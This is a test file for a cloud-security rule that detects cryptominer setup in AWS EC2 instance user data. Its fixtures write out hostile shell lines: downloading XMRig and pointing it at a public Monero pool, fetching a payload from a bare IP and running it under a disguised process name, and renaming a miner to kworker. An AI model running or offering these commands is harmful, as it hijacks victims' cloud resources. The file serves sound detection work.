import { describe, expect, it } from "vitest";
import { redactSecrets } from "../../lambda/core/redact.js";
import { ec2UserdataMiner } from "../../lambda/rules/ec2-userdata-miner.js";
import type { Severity } from "../../lambda/rules/types.js";
import {
  buildSnapshot,
  DEFAULT_INSTANCE_ID,
  hoursAgo,
  type InstanceInput,
  instance,
  instanceIdFor,
  ruleContext,
  userData,
} from "../support/snapshot-builder.js";

const WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";

/** User data of the kind seen in leaked-key incidents: fetch XMRig, point it at a public pool. */
const MINER_SCRIPT = [
  "#!/bin/bash",
  "export AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
  "DB_PASSWORD=Pr0dDbP4ss!",
  "cd /tmp && wget -q https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz",
  "tar xzf xmrig-6.21.0-linux-static-x64.tar.gz && cd xmrig-6.21.0",
  `./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u ${WALLET} -p x --donate-level 1 -B`,
  "echo done",
].join("\n");

/** An ordinary web server bootstrap: packages, the IMDSv2 dance, an app start. */
const WEB_SCRIPT = [
  "#!/bin/bash",
  "yum install -y nginx docker",
  'TOKEN=$(curl -s -X PUT "http://169.254.169.254/latest/api/token" -H "X-aws-ec2-metadata-token-ttl-seconds: 21600")',
  'REGION=$(curl -s -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/placement/region)',
  "docker run -d -p 3333:3333 --restart always grafana/grafana:11.0.0",
  "systemctl enable --now nginx",
].join("\n");

const withUserData = (text: string, overrides: Partial<InstanceInput> = {}): InstanceInput =>
  // The collector stores user data redacted; fixtures do the same.
  instance({
    launchTime: hoursAgo(2),
    instanceType: "c5.4xlarge",
    userData: userData(redactSecrets(text)),
    ...overrides,
  });

describe("MW-EC2-USERDATA-MINER", () => {
  const cases: { name: string; instances: InstanceInput[]; expected: Severity | null }[] = [
    {
      name: "fires critical: XMRig pointed at a public pool",
      instances: [withUserData(MINER_SCRIPT)],
      expected: "critical",
    },
    {
      name: "fires critical: xmrig config written by a heredoc",
      instances: [
        withUserData(
          'cat > /etc/xmr.json <<EOF\n{"pools": [{"url": "gulf.moneroocean.stream:10128", "user": "x"}]}\nEOF',
        ),
      ],
      expected: "critical",
    },
    {
      name: "fires critical: a renamed miner with --donate-level (no pool domain)",
      instances: [
        withUserData(
          "curl -s http://203.0.113.9/k | tar xz -C /var/tmp\n/var/tmp/.kswapd --donate-level 0 -o 203.0.113.9:443",
        ),
      ],
      expected: "critical",
    },
    {
      name: "fires medium: only a host:port on a mining port",
      instances: [withUserData("#!/bin/sh\nnohup /usr/local/bin/agent --upstream 198.51.100.23:14444 &")],
      expected: "medium",
    },
    {
      name: "fires medium: a cleanup script that kills miners",
      instances: [withUserData("#!/bin/bash\npkill -9 -f xmrig || true\npkill -9 -f kinsing || true")],
      expected: "medium",
    },
    { name: "quiet: an ordinary web server bootstrap", instances: [withUserData(WEB_SCRIPT)], expected: null },
    { name: "quiet: empty user data", instances: [withUserData("")], expected: null },
    {
      name: "not applicable: no user data collected",
      instances: [instance({ launchTime: hoursAgo(2) })],
      expected: null,
    },
  ];

  it.each(cases)("$name", ({ instances, expected }) => {
    const snapshot = buildSnapshot({ instances });
    const signals = ec2UserdataMiner.evaluate(snapshot, ruleContext(snapshot));
    expect(signals.map((s) => s.severity)).toEqual(expected ? [expected] : []);
    if (expected) {
      expect(signals[0]?.ruleId).toBe("MW-EC2-USERDATA-MINER");
      expect(signals[0]?.resource).toEqual({ type: "ec2-instance", id: DEFAULT_INSTANCE_ID, region: "eu-west-1" });
    }
  });

  it("quotes only the matched lines, redacted, never the whole user data", () => {
    const snapshot = buildSnapshot({ instances: [withUserData(MINER_SCRIPT)] });
    const [signal] = ec2UserdataMiner.evaluate(snapshot, ruleContext(snapshot));
    const message = signal?.message ?? "";
    expect(message).toContain('line 4: "cd /tmp && wget -q https://github.com/xmrig/xmrig/');
    expect(message).toContain("line 5:");
    expect(message).toContain("line 6:");
    expect(message).toContain("stratum+tcp://pool.supportxmr.com:3333");
    for (const unmatched of ["#!/bin/bash", "AWS_SECRET_ACCESS_KEY", "DB_PASSWORD", "echo done"]) {
      expect(message).not.toContain(unmatched);
    }
    expect(JSON.stringify(signal)).not.toContain("wJalrXUtnFEMI");
    expect(JSON.stringify(signal)).not.toContain("Pr0dDbP4ss");
    expect(signal?.details).toMatchObject({
      strength: "strong",
      lineNumbers: [4, 5, 6],
      userDataSha256: snapshot.instances[0]?.userData?.sha256,
      userDataTruncated: false,
    });
    expect(signal?.details?.indicatorKinds).toEqual(
      expect.arrayContaining(["miner-binary", "stratum-url", "pool-domain", "mining-port", "miner-flag"]),
    );
    expect(signal?.details?.indicators).toEqual(expect.arrayContaining(["xmrig", "supportxmr.com", "--donate-level"]));
  });

  it("quotes at most 3 lines and says how many more matched", () => {
    const text = Array.from({ length: 6 }, (_, k) => `./xmrig -o stratum+tcp://pool-${k}.example.org:3333`).join("\n");
    const snapshot = buildSnapshot({ instances: [withUserData(text)] });
    const [signal] = ec2UserdataMiner.evaluate(snapshot, ruleContext(snapshot));
    expect(signal?.message.match(/line \d+:/g)).toEqual(["line 1:", "line 2:", "line 3:"]);
    expect(signal?.message).toContain("(and 3 more matching lines)");
    expect(signal?.details?.lineNumbers).toEqual([1, 2, 3, 4, 5, 6]);
  });

  it("quotes the most telling lines first: the pool URL before downloads and ports", () => {
    const text = [
      "wget https://example.com/xmrig.tar.gz",
      "tar xzf xmrig.tar.gz",
      "mv xmrig /usr/bin/kworker",
      "nc -z 198.51.100.23:3333",
      "/usr/bin/kworker -o stratum+ssl://gulf.moneroocean.stream:20128",
    ].join("\n");
    const snapshot = buildSnapshot({ instances: [withUserData(text)] });
    const [signal] = ec2UserdataMiner.evaluate(snapshot, ruleContext(snapshot));
    expect(signal?.message.match(/line \d+:/g)).toEqual(["line 1:", "line 2:", "line 5:"]);
    expect(signal?.message).toContain("(and 2 more matching lines)");
  });

  it("redacts a secret that the collector missed when quoting", () => {
    // Defence in depth: a snapshot written by hand or an older collector may hold raw user data.
    const raw = "./xmrig -o stratum+tcp://worker:S3cretPoolPassw0rd@pool.example.org:3333";
    const snapshot = buildSnapshot({ instances: [instance({ userData: userData(raw) })] });
    const [signal] = ec2UserdataMiner.evaluate(snapshot, ruleContext(snapshot));
    expect(JSON.stringify(signal)).not.toContain("S3cretPoolPassw0rd");
    expect(signal?.message).toContain("stratum+tcp://worker:[REDACTED]@pool.example.org:3333");
  });

  it("says when the stored user data was truncated", () => {
    const snapshot = buildSnapshot({
      instances: [instance({ userData: { ...userData("./xmrig --algo rx/0"), sizeBytes: 40_000, truncated: true } })],
    });
    const [signal] = ec2UserdataMiner.evaluate(snapshot, ruleContext(snapshot));
    expect(signal?.message).toContain("truncated (40000 bytes in all)");
    expect(signal?.details?.userDataTruncated).toBe(true);
  });

  it("checks stopped and old instances too: user data runs again at the next start", () => {
    const snapshot = buildSnapshot({
      instances: [
        withUserData(MINER_SCRIPT, { state: "stopped", launchTime: "2025-11-02T08:00:00.000Z" }),
        withUserData(WEB_SCRIPT, { instanceId: instanceIdFor(1) }),
      ],
    });
    const signals = ec2UserdataMiner.evaluate(snapshot, ruleContext(snapshot));
    expect(signals.map((s) => [s.resource.id, s.severity])).toEqual([[DEFAULT_INSTANCE_ID, "critical"]]);
  });
});
